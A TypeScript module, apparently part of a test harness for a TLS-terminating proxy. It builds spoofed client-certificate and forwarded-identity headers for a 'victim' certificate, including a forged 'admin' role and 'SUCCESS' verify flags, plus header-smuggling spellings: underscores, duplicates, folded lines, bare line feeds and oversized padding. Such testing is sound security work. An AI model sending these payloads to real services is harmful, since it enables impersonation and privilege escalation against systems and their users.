import type { Issued } from './certificates.ts'
import { forwardedForms } from './forwarded.ts'
import { userNameHeader } from './identity.ts'

/** Headers by which some server or another is told who its client is: what somebody writes who wants to be the holder of that certificate. */
export function spoofedHeaders(victim: Issued, name: string): Readonly<Record<string, string>> {
  const url = encodeURIComponent(victim.pem)
  const base64 = victim.der.toString('base64')
  return {
    ...Object.assign({}, ...forwardedForms.map(({ headers, chain }) => ({ ...chain?.(victim), ...headers(victim) }))),
    'X-Client-Cert': base64,
    'X-Client-Certificate': url,
    'X-SSL-Client-Cert-Chain': url,
    'X-SSL-Client-SHA1': victim.thumbprint.slice(0, 40),
    'X-SSL-Client-S-DN': `CN=${name}`,
    'X-SSL-Client-CN': name,
    'X-SSL-Client-Verify': 'SUCCESS',
    'SSL-Client-Cert': url,
    'SSL-Client-Verify': 'SUCCESS',
    'X-Forwarded-Tls-Client-Cert-Info': `Subject="CN=${name}"`,
    'X-Amzn-Mtls-Clientcert-Leaf': url,
    'X-Amzn-Mtls-Clientcert-Subject': `CN=${name}`,
    'X-ARR-ClientCert': base64,
    'CF-Client-Cert-DER-Base64': base64,
    'CloudFront-Viewer-Cert-PEM': url,
    'Client-To-Edge': base64,
    'X-Forwarded-User': name,
    'X-Forwarded-Tenant': 'other',
    'X-Forwarded-Roles': 'admin',
    'X-Remote-User': name,
    'Remote-User': name,
    'X-Auth-Request-User': name,
    'Countersign-Assertion': `ey.${name}.ey`,
    UserName: userNameHeader(name),
    'X-Forwarded-For': '203.0.113.66',
    'X-Real-IP': '203.0.113.66',
    'X-Forwarded-Proto': 'https',
    Forwarded: 'for=203.0.113.66;proto=https;by=_proxy',
  }
}

export type Header = [name: string, value: string]

/** How a header can be spelled; each gives the lines of a request. */
export const spellings: Readonly<Record<string, (name: string, value: string) => readonly string[]>> = {
  'as it is': (name, value) => [`${name}: ${value}`],
  'lower case': (name, value) => [`${name.toLowerCase()}: ${value}`],
  'upper case': (name, value) => [`${name.toUpperCase()}: ${value}`],
  underscores: (name, value) => [`${name.replaceAll('-', '_')}: ${value}`],
  'one underscore': (name, value) => [`${name.replace('-', '_')}: ${value}`],
  dots: (name, value) => [`${name.replaceAll('-', '.')}: ${value}`],
  twice: (name, value) => [`${name}: ${value}`, `${name.toLowerCase()}: ${value}`],
  'empty, and again': (name, value) => [`${name}:`, `${name}: ${value}`],
  'again, and empty': (name, value) => [`${name}: ${value}`, `${name}: `],
  'named by Connection': (name, value) => [`Connection: keep-alive, ${name}`, `${name}: ${value}`],
  'with a blank before the colon': (name, value) => [`${name} : ${value}`],
  'in a folded line': (name, value) => ['X-Other: a', ` ${name}: ${value}`],
  'behind a line feed alone': (name, value) => [`X-Other: a\n${name}: ${value}`],
  oversized: (name, value) => [`${name}: ${value}${' '.repeat(20_000)}`, `X-Other: ${'a'.repeat(30_000)}`],
}

/** As many in one request as every proxy takes. */
export function portions(headers: readonly Header[]): Header[][] {
  const found: Header[][] = [[]]
  let size = 0
  for (const header of headers) {
    size += header[1].length + 40
    if (size > 3_000) {
      found.push([])
      size = header[1].length
    }
    found.at(-1)!.push(header)
  }
  return found
}
